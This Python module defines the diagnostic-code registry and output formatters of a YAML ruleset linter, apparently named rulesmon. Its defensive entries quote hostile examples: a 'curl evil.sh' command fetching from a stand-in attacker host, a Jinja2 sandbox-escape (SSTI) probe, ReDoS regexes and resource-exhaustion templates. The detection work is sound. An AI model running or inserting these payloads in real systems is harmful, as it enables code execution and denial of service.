"""Diagnostics: one located finding per mistake, with a stable code, and the output formats.

Every error a user can cause in a ruleset is a `Diagnostic` whose code is registered in `CODES`
below; docs/diagnostics.md is generated from that registry (`rulesmon docs`), and a test fails
when the two drift apart.
"""

from __future__ import annotations

import json
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from enum import StrEnum


class Severity(StrEnum):
    """How bad a finding is; `--strict` promotes warnings to errors."""

    ERROR = "error"
    WARNING = "warning"
    INFO = "info"


@dataclass(frozen=True)
class Code:
    """A registered diagnostic: what it detects, and why a user should care."""

    code: str
    name: str
    severity: Severity
    what: str
    why: str
    example: str = ""


@dataclass(frozen=True, order=True)
class Diagnostic:
    """A finding at file:line:col (1-based; 0 when the finding is about the whole file)."""

    path: str
    line: int
    col: int
    code: str
    message: str
    severity: Severity = field(default=Severity.ERROR, compare=False)

    def render(self) -> str:
        where = f"{self.path}:{self.line}:{self.col}"
        return f"{where}: {self.severity.value} {self.code} {self.message}"


class RulesetError(Exception):
    """Raised by the loader when a ruleset cannot be used; carries every diagnostic found."""

    def __init__(self, diagnostics: Sequence[Diagnostic]) -> None:
        self.diagnostics = list(diagnostics)
        super().__init__(self.diagnostics[0].render() if self.diagnostics else "invalid ruleset")


E, W, INFO = Severity.ERROR, Severity.WARNING, Severity.INFO

_CODES: list[Code] = [
    # RM0xx: the file itself
    Code("RM001", "unreadable-file", E, "The file or folder cannot be read (missing, a directory "
         "where a file was expected, or no permission).", "Nothing in it can be checked."),
    Code("RM002", "file-too-large", E, "The file is larger than the loader accepts (1 MiB).",
         "A ruleset is a page of YAML; a huge file is a mistake or an attack, and loading it "
         "would cost unbounded time and memory."),
    Code("RM003", "binary-file", E, "The file is not UTF-8 text (it holds NUL bytes or invalid "
         "UTF-8).", "A binary file passed by mistake would otherwise give confusing YAML errors."),
    Code("RM004", "empty-file", E, "The file holds no YAML document.", "An empty ruleset "
         "watches nothing; it is almost always a truncated or misnamed file."),
    Code("RM005", "not-a-mapping", E, "The document is a list or a scalar, not a mapping of "
         "keys.", "A ruleset is a mapping with `version`, `name`, `jobs`, `rules`."),
    Code("RM006", "alias-bomb", E, "Anchors and aliases expand to more nodes than the loader "
         "accepts (or nest too deep).", "A few lines of aliases can expand to billions of nodes "
         "(the 'billion laughs' attack); the loader refuses in bounded time."),
    Code("RM007", "multiple-documents", E, "The file holds more than one YAML document "
         "(`---`).", "Only the first would be used and the rest silently ignored."),
    Code("RM008", "unknown-yaml-tag", E, "A node carries a YAML tag such as `!python/object`.",
         "Tags can construct objects; a ruleset is plain data."),
    Code("RM009", "internal-error", E, "rulesmon itself failed while checking this file.",
         "The file may be fine; the failure is a bug in rulesmon. The message names the "
         "exception; please report it with the file."),
    Code("RM010", "not-a-ruleset", E, "The file is a YAML mapping with no `version:` and none "
         "of a ruleset's keys.", "It is not a ruleset (a stray YAML file, or a file named by "
         "mistake); its keys are not listed back, as they may be a password file's lines."),
    # RM1xx: YAML syntax
    Code("RM101", "yaml-syntax", E, "The YAML cannot be parsed.", "Nothing after the error can "
         "be checked."),
    Code("RM102", "duplicate-key", E, "A mapping holds the same key twice.", "YAML loaders "
         "disagree on which one wins; the first one is usually the forgotten one."),
    # RM2xx: schema
    Code("RM201", "unknown-key", E, "A key is not part of the ruleset language at that place.",
         "A misspelt key (`trehshold`) would otherwise be ignored and the check it was meant to "
         "configure would silently never run.", "jobs:\n  train:\n    slurm: {usr: alice}"),
    Code("RM202", "missing-key", E, "A required key is missing.", "The ruleset cannot be used "
         "without it.", "rules:\n  - name: crashed   # no `when:`"),
    Code("RM203", "wrong-type", E, "A value has the wrong type (a list where a mapping is "
         "expected, a string where a number is).", "YAML guesses types; rulesmon never coerces "
         "silently, so `workers: \"4\"` is an error rather than a surprise."),
    Code("RM204", "invalid-value", E, "A value is of the right type but not allowed (an unknown "
         "severity, a negative count, a name in the wrong form).", "It would fail later, at run "
         "time, in a less obvious place."),
    Code("RM205", "invalid-duration", E, "A duration is not a number of seconds or a string such "
         "as `30s`, `5m`, `2h`, `1d`.", "Durations drive `for`, `repeat` and windows; a wrong unit "
         "changes when alerts fire."),
    Code("RM206", "conflicting-keys", E, "Keys that exclude each other are used together (a job "
         "with two sources, a file check with both `glob` and `pattern`).", "Only one can win; "
         "rulesmon refuses to guess which."),
    Code("RM207", "invalid-regex", E, "A regular expression does not compile, or an extractor "
         "has no named group.", "The extractor or error pattern would never match."),
    Code("RM208", "invalid-expression", E, "A condition is not valid expression syntax, or uses a "
         "construct the sandbox forbids (lambda, comprehensions, dunder attributes, assignment).",
         "Conditions are data, not code: only comparisons, arithmetic, boolean logic, facts and "
         "registered functions are allowed."),
    Code("RM209", "invalid-template", E, "A message template is not valid Jinja2 syntax.",
         "The notification would fail at 3 a.m. instead of at lint time."),
    Code("RM210", "unsupported-version", E, "`version` is not a version this rulesmon "
         "understands.", "The meaning of keys may differ between versions."),
    Code("RM211", "invalid-name", E, "A rule, job, target or file name is not in the expected "
         "form (rules are kebab-case, jobs and targets are identifiers).", "Names become fact "
         "paths (`files.checkpoints.age`) and fingerprints in the state database."),
    Code("RM212", "missing-selector", E, "A scheduler source selects no jobs (no ids, user, name, "
         "partition, account, or submission).", "Watching every job on a cluster is never what "
         "was meant, and would be rude to the scheduler."),
    Code("RM213", "invalid-action", E, "An action is not one of the registered kinds, or names "
         "more than one kind.", "The rule would fire and do nothing."),
    # RM3xx: loader semantics
    Code("RM301", "unset-variable", E, "`${VAR}` names an environment variable that is not set and "
         "has no default (`${VAR:-default}`).", "The value would be empty; for a webhook URL the "
         "notification would go nowhere. The variable's value is never printed."),
    Code("RM302", "extends-not-found", E, "An `extends:` entry names a file that does not exist or "
         "a builtin ruleset that rulesmon does not ship.", "The rules it was meant to bring in "
         "would be missing."),
    Code("RM303", "extends-cycle", E, "`extends:` entries form a cycle.", "The merge has no "
         "defined result."),
    Code("RM304", "override-unknown-rule", E, "A rule that only overrides fields (or sets "
         "`enabled: false`) names no rule of the rulesets it extends.", "The override is dead: "
         "usually a misspelt rule name."),
    Code("RM305", "invalid-interpolation", E, "A `${...}` reference is malformed (for example "
         "`${}` or `${A B}`).", "Use `${NAME}` or `${NAME:-default}`; write `$${` for a literal "
         "`${`."),
    # RM4xx: static checks (lint)
    Code("RM401", "unknown-fact", E, "A condition, template or progress declaration names a fact "
         "that no declared probe provides (misspelt fact, extractor group or file name).",
         "The condition would be unknown for ever and the rule would never fire."),
    Code("RM402", "unknown-function", E, "A condition calls a function that is not registered.",
         "The rule would fail at every tick."),
    Code("RM403", "wrong-arguments", E, "A function is called with the wrong number or kind of "
         "arguments (for example a window that is not a duration).", "The rule would fail at "
         "every tick."),
    Code("RM404", "unknown-filter", E, "A template uses a filter or test that does not exist.",
         "The message would fail to render."),
    Code("RM405", "template-render-error", E, "A template fails when rendered against sample facts "
         "of the right types.", "The same error would drop a real notification."),
    Code("RM406", "unknown-target", E, "A rule or default names a notification target that the "
         "ruleset does not declare under `notify:`.", "The notification would go nowhere."),
    Code("RM407", "invalid-url", E, "A notification URL is not one apprise understands.",
         "Every notification to that target would fail. The URL is never printed in full."),
    Code("RM408", "duplicate-rule", E, "Two rules in one file have the same name.", "Names are the "
         "identity of an alert in the state database and in overrides."),
    Code("RM409", "unknown-job", E, "A rule's `jobs:` list names a job the ruleset does not "
         "declare.", "The rule would never apply to anything."),
    Code("RM410", "name-collision", E, "A named group of an extractor collides with a builtin "
         "log fact (`tail`, `age`, `errors`, ...).", "The group's value would hide the builtin "
         "fact, or the other way round."),
    Code("RM411", "unknown-preset", E, "A log `preset:` names no builtin extractor preset.",
         "Its progress and error facts would be missing."),
    Code("RM412", "scope-mismatch", E, "A rule uses facts that do not exist at its scope (for "
         "example `job.*` in a `scope: run` rule, or `group.*` without `group_by`).",
         "The condition would always be unknown."),
    Code("RM413", "impossible-value", E, "A condition compares an enumerated fact with a value it "
         "never takes (`job.state == \"running\"`: states are upper case, `RUNNING`).",
         "The comparison would never be true and the rule would never fire."),
    Code("RM414", "unknown-rule", E, "`inhibits:` names a rule that does not exist.",
         "The inhibition would never apply."),
    Code("RM415", "control-unsupported", E, "A `control` action names a verb that the "
         "scheduler of one of the rule's jobs cannot do (or a job has no scheduler).",
         "The action would fail every time it runs; restrict the rule with `jobs:`."),
    Code("RM416", "type-mismatch", E, "A condition compares a numeric fact (a count, seconds, "
         "bytes, a percentage, a time) with a string (`job.elapsed > \"5m\"`).",
         "A number never equals a string, and ordering them is an error at every tick: the "
         "rule would never fire. Durations are numbers of seconds (`seconds(\"5m\")`)."),
    Code("RM417", "inherited-rule-inert", INFO, "A rule brought by `extends:` has `scope: "
         "group`, and none of this ruleset's jobs has `group_by` (RM412 in the file that "
         "declares it).", "The rule never fires here: a shared ruleset may carry per-run rules "
         "that only some of the rulesets extending it use."),
    # RM5xx: warnings
    Code("RM501", "for-shorter-than-tick", W, "A rule's `for:` is shorter than the tick interval "
         "`every:`.", "Conditions are evaluated once per tick, so the rule fires on the first "
         "tick anyway; the `for` promises a debounce it cannot give."),
    Code("RM502", "regex-backtracking", W, "No longer reported: replaced by RM671 (and RM672), "
         "which find nested quantifiers in every spelling and in `matches()` too.", "Kept so "
         "that the code keeps its meaning in old reports."),
    Code("RM503", "exec-action", INFO, "A rule runs a command (`exec`).", "Commands run only when "
         "`rulesmon run --allow-exec` is given; reviewers should see every place that can."),
    Code("RM504", "fact-not-everywhere", W, "A condition names a fact that only some of the jobs "
         "it applies to provide (for example `job.partition` on a rule that also covers a local "
         "job).", "For the other jobs the rule is always unknown; restrict it with `jobs:`."),
    Code("RM505", "rule-does-nothing", W, "A rule has no action and the ruleset has no default "
         "notification target, so it only logs.", "Usually a forgotten `notify:`."),
    Code("RM506", "polling-too-fast", W, "A scheduler source polls more often than once every "
         "30 seconds.", "Cluster administrators ask users not to poll faster; rulesmon caches "
         "between scheduler calls anyway."),
    Code("RM507", "control-action", INFO, "A rule acts on jobs through their scheduler "
         "(`control`: cancel, requeue, hold, release, remove, resubmit).", "Control actions run "
         "only when `rulesmon run --allow-control` is given; reviewers should see every place "
         "that can end or change a job."),
    # RM650-RM669: the trust boundary of `extends:` (docs/security.md)
    Code("RM650", "parent-starts-process", E, "A parent ruleset that the file you run does not "
         "trust declares something that starts a process: a local job's `command`, a "
         "`submit` (sbatch, condor_submit, condor_submit_dag), or an `exec` or `control` "
         "action.", "A shared ruleset is someone else's text: extending it must not run their "
         "commands on your machine or act on your jobs. Move it into your own file, or trust "
         "the parent by name: `extends: [{path: team.yaml, trust: true}]`.",
         "# team.yaml, extended without trust\njobs:\n  x:\n    local: {command: curl evil.sh}"),
    Code("RM651", "parent-adds-destination", E, "A parent ruleset that the file you run does "
         "not trust declares a place rulesmon would send or write to: a `notify:` target, a "
         "`summary:`, or a `state_file:`.", "A parent could otherwise send your jobs' messages "
         "(and the secrets in them) to its author, or overwrite one of your files. Targets "
         "belong in your own file; parents name them (`defaults.notify`, `notify:` of a rule)."),
    Code("RM652", "parent-reads-environment", E, "A parent ruleset that the file you run does "
         "not trust writes a `${VAR}` reference.", "Environment variables hold tokens and "
         "webhook URLs; a parent could copy one into a message. The variable is not read."),
    Code("RM653", "extends-outside", E, "An `extends:` entry is an absolute path, a path with "
         "`..`, or a symbolic link that leads outside the folder of the ruleset you run (and "
         "outside the folders named with `--extends-path` or RULESMON_EXTENDS_PATH).",
         "A ruleset must not make rulesmon read arbitrary files such as /etc/shadow. The file "
         "is not read."),
    Code("RM654", "extends-not-a-ruleset", E, "An `extends:` entry names a file that is not a "
         "ruleset: not YAML, not a mapping, or a mapping without `version:`.", "It was "
         "probably named by mistake, or to make rulesmon print a file back; its content is "
         "never shown."),
    Code("RM655", "extends-contributes", INFO, "What each entry of `extends:` brings: its "
         "rules, jobs, defaults, and whether it is trusted.", "Reviewers see at a glance what "
         "a shared ruleset adds, and which parents may do what only your own file may."),
    # RM670-RM679: ruleset regular expressions in bounded time (docs/security.md, "Regexes")
    Code("RM670", "regex-fallback", INFO, "A ruleset pattern uses what RE2 lacks (a lookahead "
         "or lookbehind, a back reference, a possessive repeat, an atomic or conditional group, "
         "a repeat over 1000), so it runs on Python's `re` in a helper process, each line "
         "bounded to 2 s.", "Every other pattern runs on RE2 in linear time; reviewers see "
         "which ones do not. A line that overruns the bound stops the pattern for the run and "
         "its facts become unknown.", "errors: {dup: '(\\w+) \\1'}"),
    Code("RM671", "regex-exponential", W, "A ruleset pattern nests quantifiers or repeats "
         "alternatives that can match alike (`(a+)+`, `((a+))+$`, `(a*)*b`, `(.*a){20}`, "
         "`(a|a)*$`), in `extract:`, `errors:`, a files or local `pattern:` or `matches()`. "
         "Replaces RM502.", "Under a backtracking engine (Python's `re`, `grep -P`, the tools "
         "the ruleset is shared with) it takes exponential time on a long line. rulesmon runs "
         "it on RE2 in linear time, so it is a warning, not a stall.",
         "errors: {oom: '((a+))+$'}"),
    Code("RM672", "regex-exponential-fallback", E, "A ruleset pattern is exponential under "
         "backtracking (as RM671) and also needs Python's `re` (as RM670).", "On a long line it "
         "would be stopped at its 2 s bound every time and give no facts; rewrite it.",
         "errors: {x: '(?=x)((a+))+$'}"),
    # RM690-RM699: secrets (docs/security.md, "Secrets: what is redacted where")
    Code("RM690", "secret-in-message", W, "A notification title or message interpolates a "
         "variable whose name says it is a secret (`${AWS_SECRET_ACCESS_KEY}`, `${GH_TOKEN}`).",
         "The notify targets receive the value in clear, in every message of the rule; rulesmon "
         "masks it everywhere else (console, log, state database, history, web, state file). "
         "Send a hint instead (`the key in $AWS_SECRET_ACCESS_KEY`), or keep it if the target "
         "is meant to get it.", 'message: "rotate ${AWS_SECRET_ACCESS_KEY}"'),
    # RM680-RM689: bounded evaluation and the template sandbox (docs/security.md)
    Code("RM680", "condition-over-bound", E, "A condition builds a value over a hard bound "
         "(a `%`-format width, a repetition, a power or a `round()` past its limit) from parts "
         "that need no fact, so it fails on every evaluation.", "`'%0999999999d' % 1` is a "
         "gigabyte per job per tick; rulesmon refuses such operations before running them and "
         "reports a `condition_error` instead.", "when: \"'%0999999999d' % 1 == 'x'\""),
    Code("RM681", "template-over-bound", E, "A template exceeds a render bound with sample facts: "
         "a string, width, repetition, range or join over its limit, or more loop iterations, "
         "calls or output than one render may use.", "`{{ 'a'|center(999999999) }}` or nested "
         "loops would take gigabytes or minutes per notification; the render stops at the "
         "bound and the notification says why.", "message: \"{{ range(100000)|join('x' * "
         "9999) }}\""),
    Code("RM682", "template-unsafe-access", E, "A template reaches for what the sandbox never "
         "gives: a dunder or name-mangled attribute (`__class__`, `__globals__`, "
         "`self._TemplateReference__context`), through `.`, `[...]`, `|attr(...)` or a "
         "`str.format` field such as `'{0.__class__}'`.", "These are the first steps of every "
         "known Jinja2 sandbox escape (SSTI); a ruleset that tries one is hostile or broken. "
         "The render fails and nothing is reached.", "message: \"{{ cycler.__init__.__globals__ "
         "}}\""),
]

CODES: dict[str, Code] = {c.code: c for c in _CODES}


def make(path: str, line: int, col: int, code: str, message: str) -> Diagnostic:
    """Build a diagnostic with the registered severity of its code; a message quoting the
    user's text stays one line (line breaks and other control characters are escaped)."""
    return Diagnostic(path, line, col, code, _one_line(message), CODES[code].severity)


def _one_line(text: str) -> str:
    if text.isprintable():
        return text
    return "".join(ch if ch.isprintable() else repr(ch)[1:-1] for ch in text)


def effective(diag: Diagnostic, *, strict: bool) -> Severity:
    if strict and diag.severity is Severity.WARNING:
        return Severity.ERROR
    return diag.severity


# --- output formats -----------------------------------------------------------------------------


def format_text(diags: Iterable[Diagnostic], *, strict: bool = False) -> str:
    lines = []
    for d in diags:
        sev = effective(d, strict=strict)
        lines.append(f"{d.path}:{d.line}:{d.col}: {sev.value} {d.code} {d.message}")
    return "\n".join(lines)


def format_json(diags: Iterable[Diagnostic], *, strict: bool = False) -> str:
    return json.dumps(
        [
            {
                "path": d.path,
                "line": d.line,
                "col": d.col,
                "code": d.code,
                "name": CODES[d.code].name,
                "severity": effective(d, strict=strict).value,
                "message": d.message,
            }
            for d in diags
        ],
        indent=2,
    )


def _gh_escape(text: str, *, prop: bool = False) -> str:
    text = text.replace("%", "%25").replace("\r", "%0D").replace("\n", "%0A")
    if prop:
        text = text.replace(":", "%3A").replace(",", "%2C")
    return text


def format_github(diags: Iterable[Diagnostic], *, strict: bool = False) -> str:
    kinds = {Severity.ERROR: "error", Severity.WARNING: "warning", Severity.INFO: "notice"}
    out = []
    for d in diags:
        kind = kinds[effective(d, strict=strict)]
        props = f"file={_gh_escape(d.path, prop=True)},line={max(d.line, 1)},col={max(d.col, 1)}"
        title = _gh_escape(f"{d.code} {CODES[d.code].name}", prop=True)
        out.append(f"::{kind} {props},title={title}::{_gh_escape(d.message)}")
    return "\n".join(out)


def format_sarif(diags: Iterable[Diagnostic], *, strict: bool = False) -> str:
    from . import __version__

    diags = list(diags)
    levels = {Severity.ERROR: "error", Severity.WARNING: "warning", Severity.INFO: "note"}
    used = sorted({d.code for d in diags})
    rules = [
        {
            "id": c,
            "name": CODES[c].name,
            "shortDescription": {"text": CODES[c].what},
            "fullDescription": {"text": CODES[c].why},
            "helpUri": f"docs/diagnostics.md#{c.lower()}",
            "defaultConfiguration": {"level": levels[CODES[c].severity]},
        }
        for c in used
    ]
    results = [
        {
            "ruleId": d.code,
            "ruleIndex": used.index(d.code),
            "level": levels[effective(d, strict=strict)],
            "message": {"text": d.message},
            "locations": [
                {
                    "physicalLocation": {
                        "artifactLocation": {"uri": d.path},
                        "region": {"startLine": max(d.line, 1), "startColumn": max(d.col, 1)},
                    }
                }
            ],
        }
        for d in diags
    ]
    doc = {
        "$schema": "https://json.schemastore.org/sarif-2.1.0.json",
        "version": "2.1.0",
        "runs": [
            {
                "tool": {
                    "driver": {
                        "name": "rulesmon",
                        "version": __version__,
                        "informationUri": "docs/diagnostics.md",
                        "rules": rules,
                    }
                },
                "results": results,
            }
        ],
    }
    return json.dumps(doc, indent=2)


FORMATTERS = {
    "text": format_text,
    "json": format_json,
    "github": format_github,
    "sarif": format_sarif,
}


def render_docs() -> str:
    """The reference page docs/diagnostics.md, generated so it cannot drift from the registry."""
    out = [
        "# Diagnostics reference",
        "",
        "Every finding of `rulesmon lint` (and every load error of `rulesmon run`) has a stable "
        "code. Text output reads `path:line:col: severity CODE message`. This page is generated "
        "by `rulesmon docs` from `rulesmon/diagnostics.py`; do not edit it by hand.",
        "",
        "| code | name | severity |",
        "| --- | --- | --- |",
    ]
    out += [f"| [{c.code}](#{c.code.lower()}) | {c.name} | {c.severity.value} |" for c in _CODES]
    for c in _CODES:
        out += ["", f"## {c.code}", "", f"**{c.name}** ({c.severity.value})", ""]
        out += ["### What it detects", "", c.what, "", "### Why it matters", "", c.why]
        if c.example:
            out += ["", "### Example", "", "```yaml", c.example, "```"]
    return "\n".join(out) + "\n"
